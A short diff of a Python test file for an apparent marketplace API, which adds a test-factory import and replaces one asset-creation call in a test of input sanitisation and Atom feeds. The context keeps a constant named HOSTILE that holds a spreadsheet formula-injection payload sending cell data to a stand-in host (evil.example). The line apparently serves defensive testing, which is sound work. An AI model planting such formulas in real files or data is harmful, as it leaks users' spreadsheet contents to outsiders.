@@ -13,6 +13,7 @@ from market.api.auth import issue_token
 from market.needs import bulletin
 from market.needs.models import Need
 from tests.conftest import NOW
+from tests.factories import make_asset
 
 ATOM = {"a": "http://www.w3.org/2005/Atom"}
 HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
@@ -24,7 +25,7 @@ def _published_edition(session, when: datetime):
 
 def test_control_characters_are_stripped_at_input_and_every_atom_feed_parses(app, client, session, factory, kit):
     ent, staff = factory.user(Role.ENTERPRISE), factory.user(Role.STAFF)
-    assets = [kit.asset(ent.organisation)]
+    assets = [make_asset(kit.session, ent.organisation)]
     _t, secret = issue_token(session, ent, "test", "read write", NOW)
     _t, staff_secret = issue_token(session, staff, "test", "read write", NOW)
     r = client.post("/api/v1/needs", headers={"Authorization": f"Bearer {secret}"}, json={
